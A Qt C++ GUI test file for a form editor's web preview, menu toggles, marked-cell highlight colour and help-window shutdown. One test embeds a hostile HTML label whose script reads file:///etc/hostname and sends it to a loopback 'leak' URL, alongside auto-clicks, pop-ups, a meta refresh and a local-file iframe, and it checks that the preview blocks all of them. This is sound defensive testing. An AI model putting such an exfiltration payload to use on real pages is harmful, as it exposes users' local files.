// View options and the preview: preview files, the viewer toggle, the placeholder row and
// the marked cell, the highlight colour, and the help window at shutdown.
#include "GuiTestSupport.h"

#include "ui/HelpWindow.h"
#include "ui/ItemGridView.h"
#include "ui/PreviewPage.h"

#include <QImage>
#include <QSignalSpy>
#include <QWebEngineScript>
#include <QWebEngineView>

using namespace GuiTest;

class tst_View : public FrameTest
{
    Q_OBJECT

    static QStringList previewFiles()
    {
        return QDir::temp().entryList({QStringLiteral("WFM*")}, QDir::Files, QDir::Name);
    }

private slots:
    void init()
    {
        for (const QString &file : previewFiles())
            QFile::remove(QDir(QDir::tempPath()).filePath(file));
        startTest();
    }

    void cleanup()
    {
        closeFrame(m_frame);
        PreviewPage::setUrlOpener({}); // back to the desktop
    }

    // A label's HTML is shown, never run: no script, no frame, no redirect, nothing handed
    // to the desktop, while the picture of an image item still shows.
    void previewRunsNothing()
    {
        QList<QUrl> handedOver;
        PreviewPage::setUrlOpener([&handedOver](const QUrl &url) { handedOver << url; });
        const QString picture = QDir::temp().filePath(QStringLiteral("dot.png"));
        QImage(7, 5, QImage::Format_RGB32).save(picture);
        setRow(m_form, m_form->grid().rows(),
               "Label|||<a id=\"l\" href=\"http://127.0.0.1:9/clicked\">link</a><script>"
               "document.title='ran'; document.getElementById('l').click();"
               "window.open('http://127.0.0.1:9/opened');"
               "fetch('file:///etc/hostname').then(r => r.text())"
               ".then(t => { location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
               "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/moved\">"
               "<iframe src=\"file:///etc/hostname\"></iframe>");
        setRow(m_form, m_form->grid().rows(), "Image||" + picture);
        QSignalSpy loaded(m_form->webPreview(), &QWebEngineView::loadFinished);
        m_form->UpdateForm();
        QVERIFY(loaded.wait(20000));
        QTest::qWait(1500); // time for a timer, a refresh or a fetch that should not happen
        QCOMPARE(m_form->webPreview()->url(), QUrl::fromLocalFile(m_form->PreviewFile));
        QVERIFY(m_form->webPreview()->title() != QStringLiteral("ran"));
        auto width = std::make_shared<QVariant>(); // the callback may outlive a failed test
        m_form->webPreview()->page()->runJavaScript(
            QStringLiteral("document.querySelector('input[type=image]').offsetWidth"),
            QWebEngineScript::ApplicationWorld, [width](const QVariant &v) { *width = v; });
        QTRY_COMPARE(width->toInt(), 7);

        // Only the user's click leaves the page, to the desktop's browser.
        const QUrl shown = QUrl::fromLocalFile(m_form->PreviewFile);
        const QUrl remote(QStringLiteral("http://127.0.0.1:9/x"));
        const QUrl local = QUrl::fromLocalFile(QStringLiteral("/etc/hostname"));
        using P = PreviewPage;
        QVERIFY(P::acceptNavigation(shown, shown, P::NavigationTypeTyped, true));
        QVERIFY(!P::acceptNavigation(shown, local, P::NavigationTypeTyped, true));
        QVERIFY(!P::acceptNavigation(shown, remote, P::NavigationTypeRedirect, true));
        QVERIFY(!P::acceptNavigation(shown, remote, P::NavigationTypeOther, true));
        QVERIFY(!P::acceptNavigation(shown, shown, P::NavigationTypeTyped, false));
        QVERIFY(!P::acceptNavigation(shown, local, P::NavigationTypeLinkClicked, true));
        QVERIFY(!P::acceptNavigation(shown, remote, P::NavigationTypeLinkClicked, true));
        QVERIFY(!P::acceptNavigation(shown, remote, P::NavigationTypeFormSubmitted, true));
        QCOMPARE(handedOver, (QList<QUrl>{remote, remote})); // and nothing from the page

        using R = QWebEngineUrlRequestInfo;
        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeMainFrame, shown));
        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeImage, QUrl::fromLocalFile(picture)));
        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeImage, remote));
        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeMainFrame, remote));
        for (R::ResourceType type :
             {R::ResourceTypeSubFrame, R::ResourceTypeScript, R::ResourceTypeStylesheet,
              R::ResourceTypeXhr, R::ResourceTypeMedia, R::ResourceTypeObject})
            QVERIFY(!PreviewPage::allowsRequest(type, local));
    }

    // One preview file per window, replaced on every refresh, deleted with the window; with
    // the viewer off none is written, Refresh is off and new windows have no viewer. The
    // placeholder row goes once items exist; rows added while it is current (as a built form
    // does) leave one mark, never in the Type column, in the highlight colour a restart keeps.
    // Shutdown closes the help window, which would keep the program running.
    void previewFilesViewerMarkAndRestart()
    {
        QCOMPARE(previewFiles().size(), 0); // a new window shows a blank page
        for (int i = 0; i < 3; ++i) {
            QVERIFY(triggerAction(m_form, QStringLiteral("mnuViewRefresh")));
            QCOMPARE(previewFiles(), QStringList{QFileInfo(m_form->PreviewFile).fileName()});
        }
        NewWebForm();
        m_frame->activeForm()->UpdateForm();
        QCOMPARE(previewFiles().size(), 2);
        m_frame->activeForm()->mnuFileClose_Click();
        QTRY_COMPARE(previewFiles().size(), 1);
        QVERIFY(triggerAction(m_form, QStringLiteral("mnuViewPreview")));
        QVERIFY(m_form->webPreview()->isHidden());
        m_form->mnuViewRefresh_Click();
        QCOMPARE(previewFiles().size(), 0);
        m_form->mnuView_Click();
        QVERIFY(!findAction(m_form, QStringLiteral("mnuViewRefresh"))->isEnabled());
        QVERIFY(!findAction(m_form, QStringLiteral("mnuViewPreview"))->isChecked());
        NewWebForm();
        QVERIFY(m_frame->activeForm()->webPreview()->isHidden());
        m_form->mnuViewPreview_Click();
        QVERIFY(!m_form->webPreview()->isHidden());

        m_form->UpdateForm();
        QCOMPARE(m_form->grid().rows(), 2); // the only row stays, empty as it is
        for (const char *label : {"a", "b", "c"})
            setRow(m_form, m_form->grid().rows(), "Label|||" + QString(label));
        m_form->UpdateForm();
        QCOMPARE(itemRows(m_form), (QStringList{"Label|||a", "Label|||b", "Label|||c"}));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(1, 1)});
        QCOMPARE(m_form->grid().currentRow(), 1);
        auto *view = m_form->flgForm();
        QCOMPARE(view->currentIndex().row(), 0);
        view->setCurrentIndex(view->model()->index(1, 5));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(5, 2)});
        Prompter::queueAnswer(QColor()); // cancelled: yellow, as on every first run, stays
        m_form->mnuViewHighlight_Click();
        QCOMPARE(m_form->grid().cellColour(2, 5), quint32(65535));
        Prompter::queueAnswer(QColor(0x12, 0x34, 0x56));
        m_form->mnuViewHighlight_Click();
        view->setCurrentIndex(view->model()->index(0, 0));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(1, 1)});
        QCOMPARE(m_form->grid().cellColour(1, 1), quint32(0x563412)); // red in the low byte

        QVERIFY(triggerAction(m_form, QStringLiteral("mnuHelpContents")));
        QPointer<HelpWindow> help = HelpWindow::current();
        closeFrame(m_frame);
        QTRY_VERIFY(!help || !help->isVisible());
        m_frame = startFrame();
        QCOMPARE(m_frame->activeForm()->grid().cellColour(1, 1), quint32(0x563412));
    }
};

QTEST_MAIN(tst_View)
#include "tst_view.moc"
